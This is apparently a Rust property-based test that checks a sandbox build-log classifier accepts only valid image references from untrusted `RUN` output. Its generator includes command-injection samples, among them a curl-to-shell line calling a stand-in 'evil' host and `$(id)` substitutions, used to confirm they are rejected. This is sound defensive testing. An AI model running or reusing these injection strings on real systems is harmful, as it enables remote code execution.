//! Build output is untrusted: whatever a `RUN` step prints, the built image taken from
//! the log is a valid reference, and OpenShell's own last line wins.

use proptest::prelude::*;
use sandbox_triage_core::{classify, ImageRef, Options, Stage, StageRules};

fn rules() -> &'static StageRules {
    crate::support::rules(Stage::SandboxCreate)
}

fn token() -> impl Strategy<Value = String> {
    prop_oneof![
        proptest::sample::select(vec![
            "x;curl${IFS}evil|sh",
            "$(id)",
            "`id`",
            "a&&b",
            "sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
            "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
            "Evil/Upper:1",
            "'quoted'",
            "\"dq\"",
            "a b",
            "x:1>y",
            "",
            "openshell/sandbox-from:1786000000",
            "localhost:5000/team/app:v2",
            "evil/x:1",
        ])
        .prop_map(str::to_owned),
        "[ -~]{0,24}",
    ]
}

fn line() -> impl Strategy<Value = String> {
    prop_oneof![
        token().prop_map(|t| format!("  Built image {t}")),
        token().prop_map(|t| format!("Successfully tagged {t}")),
        token().prop_map(|t| format!("  Built image\n{t}")),
        Just("  Step 3/9 : RUN echo hi".to_owned()),
        "[ -~]{0,40}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]

    #[test]
    fn only_valid_references_are_ever_taken(lines in proptest::collection::vec(line(), 0..12)) {
        let log = lines.join("\n");
        let diagnosis = classify(rules(), Options::default(), log.as_bytes());
        if let Some(image) = &diagnosis.built_image_ref {
            prop_assert!(ImageRef::parse(image.as_str()).is_ok());
            prop_assert!(!image.as_str().contains(|c: char| !(c.is_ascii_alphanumeric() || "._-/:@[]".contains(c))), "{}", image);
        }
        // OpenShell's own last valid `Built image` line wins over everything before it;
        // one a later build step follows was that build's output.
        let last_built = log.lines().rev().take_while(|l| !l.contains("Step 3/9")).filter_map(|l| l.trim_start().strip_prefix("Built image ")).map(str::trim).find(|t| ImageRef::parse(t).is_ok());
        if let Some(expected) = last_built {
            prop_assert_eq!(diagnosis.built_image_ref.as_ref().map(ImageRef::as_str), Some(expected));
        }
        let json = sandbox_triage_core::diagnosis_json(&diagnosis);
        for hostile in ["$(id)", "`id`", "${IFS}", "&&"] {
            let value: serde_json::Value = serde_json::from_str(&json).expect("json");
            prop_assert!(!value["built_image_ref"].as_str().unwrap_or_default().contains(hostile));
        }
    }
}
